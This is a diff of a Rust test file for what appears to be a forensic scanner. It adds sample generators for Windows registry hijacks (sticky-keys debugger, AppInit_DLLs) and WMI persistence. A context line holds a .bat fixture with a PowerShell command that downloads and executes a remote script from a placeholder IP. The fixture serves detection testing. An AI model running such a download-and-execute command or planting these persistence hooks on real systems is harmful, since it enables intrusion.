@@ -347,6 +347,27 @@ fn sample(family: &str, path: &str, s: &Secrets) -> Option<Sample> {
             };
             Some(Sample(std::fs::read(dir.join(file)).unwrap(), 0o644))
         }
+        // The SOFTWARE hive of the leaky Windows disks (the sticky-keys debugger, AppInit_DLLs),
+        // written by hivexsh.
+        "windows-hijacks" => {
+            let dir = workdir("quick", "hijack-hives");
+            run(bash(&format!(
+                "bash '{}' . leaky",
+                testdata().join("ntfs/hives.sh").display()
+            ))
+            .current_dir(&dir));
+            Some(Sample(std::fs::read(dir.join("SOFTWARE")).unwrap(), 0o644))
+        }
+        // The WMI repository of the leaky Windows disks (testdata/ntfs/wmi-repository.py).
+        "windows-wmi" => {
+            let dir = workdir("quick", "wmi");
+            run(bash(&format!(
+                "python3 '{}' OBJECTS.DATA leaky",
+                testdata().join("ntfs/wmi-repository.py").display()
+            ))
+            .current_dir(&dir));
+            Some(Sample(std::fs::read(dir.join("OBJECTS.DATA")).unwrap(), 0o644))
+        }
         "windows-persistence" if path.ends_with(".bat") => text(
             "@echo off\r\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n".into(),
         ),
@@ -595,7 +616,9 @@ fn quick_reports_every_family_finding_that_full_reports_where_it_walks() {
         [
             "/Windows/Panther/unattend.xml",
             "/Windows/System32/config/SAM",
-            "/Windows/System32/config/SYSTEM"
+            "/Windows/System32/config/SOFTWARE",
+            "/Windows/System32/config/SYSTEM",
+            "/Windows/System32/wbem/Repository/OBJECTS.DATA"
         ],
         "samples outside the quick walk (Windows volumes are not root filesystems; the hives are \
          read by the volume check)"
